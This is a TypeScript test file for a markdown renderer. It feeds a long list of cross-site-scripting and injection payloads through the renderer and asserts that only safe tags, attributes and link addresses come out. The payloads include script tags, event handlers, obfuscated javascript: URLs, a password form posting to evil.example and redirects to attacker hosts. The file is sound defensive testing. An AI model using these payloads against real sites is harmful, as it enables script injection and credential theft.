import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './renderMarkdown.tsx';
import { safeLinkUrl } from './safeUrl.ts';

const allowedTags = 'p strong em code pre blockquote ul ol li a br hr span'.split(' ');
const allowedAttributes = 'class href rel target start data-ordered data-carillon'.split(' ');

/** React escapes every text, so each `<` of the markup is a tag: this reads them all. */
function tagsOf(markup: string) {
  return Array.from(
    markup.matchAll(/<([a-z0-9]+)((?:\s[a-z-]+="[^"]*")*)\s*\/?>/g),
    ([, tag = '', rest = '']) => ({
      tag,
      attributes: new Map(
        Array.from(
          rest.matchAll(/([a-z-]+)="([^"]*)"/g),
          ([, name = '', value = '']) => [name, value] as const,
        ),
      ),
    }),
  );
}

/** Content as static markup. */
function markupOf(content: string) {
  return renderToStaticMarkup(renderMarkdown(content));
}

/** No element, attribute or address that content may not bring. */
function expectHarmless(markup: string) {
  expect(markup.replace(/<\/?[a-z0-9]+(?:\s[a-z-]+="[^"]*")*\s*\/?>/g, '')).not.toContain('<');
  for (const { tag, attributes } of tagsOf(markup)) {
    expect(allowedTags).toContain(tag);
    for (const [name, value] of attributes) {
      expect(allowedAttributes).toContain(name);
      if (name === 'href') {
        expect(safeLinkUrl(value.replaceAll('&amp;', '&').replaceAll('&#x27;', "'"))).not.toBeNull();
        expect(attributes.get('rel')).toBe('noopener noreferrer nofollow');
      }
    }
  }
}

/** The markup without our classes, to compare with what CommonMark asks for. */
function bare(markup: string) {
  return markup.replace(/ (?:class|rel|target|data-[a-z]+)="[^"]*"/g, '');
}
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://example.com" target="_top">x</a>',
  '<a ping="https://evil.example" href="/">x</a>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<div style="position:fixed;inset:0">x</div>',
  '<div id="parentIFrame" name="parentIFrame">x</div>',
  '<p class="carillon">x</p>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php alert(1) ?>',
  '<!DOCTYPE html>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action="javascript:alert(1)">',
  '<div><script>alert(1)</script>\n\n**bold**</div>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#58;alert&#40;1&#41;)',
  '[x](&#106;avascript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](java&NewLine;script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#1;javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](blob:https://example.com/1)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](https://bank.example@evil.example)',
  '[x](https://example.com "onmouseover=alert(1) x=\\"")',
  '[x](https://example.com/"onmouseover="alert(1))',
  "[x](https://example.com/'onmouseover='alert(1))",
  '[x]: javascript:alert(1)\n\n[x]',
  '[__proto__]: https://example.com\n\n[__proto__] [constructor] [toString]',
  '[x][y]\n\n[y]: data:text/html,x',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '<vbscript:x>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![](https://tracker.example/pixel.gif)',
  '![x" onerror="alert(1)](https://example.com/a.png)',
  '![x](https://example.com/a.png){onerror=alert(1)}',
  '[![x](javascript:alert(1))](javascript:alert(1))',
  '[a [b](https://one.example) c](https://two.example)',
  '**<img src=x onerror=alert(1)>**',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '``` "><script>alert(1)</script>\nx\n```',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '# <svg onload=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '\u202E<b>x</b>\u202C',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<a name="x"></a><a id="y"></a>',
  '{{constructor.constructor("alert(1)")()}}',
  '$\u007balert(1)}',
];

describe('hostile content', () => {
  it.each(hostile)('%j brings no forbidden element, attribute or address', (content) => {
    expectHarmless(markupOf(content));
  });

  it('shows raw HTML as the text it is', () => {
    expect(markupOf('<b>bold</b>').replace(/<[^>]*>/g, '')).toBe('&lt;b&gt;bold&lt;/b&gt;');
  });

  it('keeps the words of a link it refuses', () => {
    expect(bare(markupOf('See [the plan](javascript:alert(1)).'))).toBe('<p>See the plan.</p>');
  });

  it('fetches no picture', () => {
    expect(bare(markupOf('![a chart](https://example.com/a.png)'))).toBe(
      '<p><a href="https://example.com/a.png">a chart</a></p>',
    );
  });

  it('nests no link in a link', () => {
    expect(markupOf('[![x](https://one.example/a.png)](https://two.example)').match(/<a /g)).toHaveLength(1);
  });

  it('takes no target from content, and opens only other sites in a tab of their own', () => {
    expect(markupOf('[a](https://example.com)')).toContain('target="_blank"');
    expect(markupOf('[a](/inbox)')).not.toContain('target');
  });

  it('leaves the prototype alone', () => {
    markupOf('[__proto__]: https://example.com\n\n[__proto__]');
    expect(Object.keys(Object.prototype)).toEqual([]);
  });
});
